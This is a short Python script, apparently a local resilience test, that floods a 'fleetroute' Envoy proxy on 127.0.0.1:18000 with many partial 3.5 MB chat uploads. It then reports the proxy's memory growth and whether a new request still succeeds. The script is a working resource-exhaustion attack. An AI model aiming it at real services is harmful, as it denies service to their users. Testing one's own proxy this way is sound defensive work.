#!/usr/bin/env python3
"""Upload attack against a local fleetroute Envoy: N clients each send 3.5 MB of
a 4 MB chat body to 127.0.0.1:18000 and stop. Prints Envoy's resident memory
before and with the uploads held, and the status of one new request.
Usage: scripts/upload-attack.py ENVOY_PID N"""
import socket, sys, time, subprocess, urllib.request
pid=sys.argv[1]; n=int(sys.argv[2])
def rss():
    return int(open(f"/proc/{pid}/status").read().split("VmRSS:")[1].split()[0])//1024
base=rss()
head=b'POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 4000000\r\n\r\n{"model":"m1","messages":[{"role":"user","content":"'
body=b'x'*3500000
socks=[]
for i in range(n):
    s=socket.create_connection(("127.0.0.1",18000)); s.settimeout(10)
    try:
        s.sendall(head); s.sendall(body)
    except Exception as e:
        pass
    socks.append(s)
time.sleep(2)
peak=rss()
try:
    r=urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:18000/v1/chat/completions",data=b'{"model":"m1","messages":[{"role":"user","content":"hi"}],"max_tokens":2}',headers={"content-type":"application/json"}),timeout=10); st=r.status
except urllib.error.HTTPError as e: st=e.code
print(f"uploads={n} rss_before={base}MiB rss_with_uploads={peak}MiB new_request_status={st}")
for s in socks: s.close()
